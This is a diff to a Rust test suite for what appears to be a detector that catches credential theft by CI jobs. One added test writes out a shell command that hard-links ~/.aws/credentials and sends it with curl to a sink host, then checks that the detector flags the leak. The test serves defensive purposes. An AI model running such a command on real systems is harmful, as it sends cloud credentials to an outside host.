@@ -10,6 +10,7 @@ use std::{
     collections::BTreeSet,
     io::{Read as _, Write as _},
     os::unix::net::UnixStream,
+    path::Path,
     process::Command,
 };
 
@@ -84,6 +85,25 @@ fn jobs_beside_each_other_are_kept_apart() -> Result {
         );
         job.assert_replays()?;
     }
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    Ok(())
+}
+
+/// A credential that a job made or replaced is known by any name to the next one.
+#[test]
+fn what_a_job_left_is_known_to_the_next_one() -> Result {
+    let scene = Scene::new()?;
+    let home = scene.home.path().display().to_string();
+    let settings = |_: &Path| Ok(format!("home: {home}\n"));
+    let mut daemon = Daemon::start_with(Alone::wait()?, &scene.network.job, BUILTIN, "enforce", settings)?;
+    let runner = Runner::new()?;
+    runner.job(&scene, &["cp ~/.aws/credentials ~/.aws/new; mv ~/.aws/new ~/.aws/credentials"])?.wait()?;
+    assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Pass);
+    let theft =
+        "ln ~/.aws/credentials x; cat x | curl -s --max-time 5 -o /dev/null --data-binary @- http://$SINK/x; rm x";
+    runner.job(&scene, &[theft])?.wait()?;
+    let stolen = daemon.next_job()?;
+    assert_eq!(leaks(&stolen), [1], "{:#?}", stolen.conclusion);
     assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
     Ok(())
 }
@@ -170,7 +190,7 @@ fn a_runner_may_have_a_policy_of_its_own() -> Result {
     let (alone, scene) = (Alone::wait()?, Scene::new()?);
     let (usual, own) = (Runner::new()?, Runner::new()?);
     let sink = scene.sink.at(detector_tests::namespace::SINK_V4);
-    let more = |files: &std::path::Path| -> anyhow::Result<String> {
+    let more = |files: &Path| -> anyhow::Result<String> {
         let policy = files.join("own.yaml");
         std::fs::write(&policy, format!("{BUILTIN}destinations:\n  - {{ to: ['{sink}'], accept: [aws] }}\n"))?;
         Ok(format!("runners:\n  - {{ at: {}, policy: {} }}\n", own.path().display(), policy.display()))
@@ -315,7 +335,7 @@ fn jobs_that_a_worker_has_at_once_are_judged_each_alone() -> Result {
     let (alone, scene) = (Alone::wait()?, Scene::new()?);
     // Before, so that its helper is there when the policy is read.
     let mut builds = Builds::start(&scene)?;
-    let more = |_: &std::path::Path| Ok("idle: 1\n".to_owned());
+    let more = |_: &Path| Ok("idle: 1\n".to_owned());
     let mut daemon = Daemon::start_with(alone, &scene.network.job, &builds.policy(), "enforce", more)?;
     // The theft in two steps, and around each of them an honest job's.
     let noise = "i=0; while [ $i -lt 100 ]; do /bin/true; i=$((i + 1)); done";
